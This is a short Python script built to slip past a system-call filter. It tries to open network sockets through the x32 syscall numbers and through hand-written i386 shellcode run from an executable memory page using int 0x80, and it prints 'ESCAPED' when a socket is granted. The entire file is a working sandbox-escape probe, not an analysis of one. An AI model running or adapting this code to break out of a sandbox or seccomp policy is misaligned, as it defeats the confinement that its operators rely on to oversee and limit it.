"""Asks for sockets by the 32-bit and the x32 call numbers, which a careless filter does not see."""
# where: latent_grid
# lost: latent_grid

import ctypes
import mmap

libc = ctypes.CDLL(None, use_errno=True)
for base in (0x40000000, 0x80000000):
    handle = libc.syscall(ctypes.c_long(base | 41), 2, 2, 0)
    print("x32", handle, ctypes.get_errno())
    if handle >= 0:
        print("escaped".upper())
# mov eax, 359 (socket); mov ebx, 2; mov ecx, 2; xor edx, edx; int 0x80; ret
code = b"\x53\xb8\x67\x01\x00\x00\xbb\x02\x00\x00\x00\xb9\x02\x00\x00\x00\x31\xd2\xcd\x80\x5b\xc3"
page = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
page.write(code)
call = ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(page)))
result = call()
print("int 0x80", result)
if result >= 0:
    print("escaped".upper())
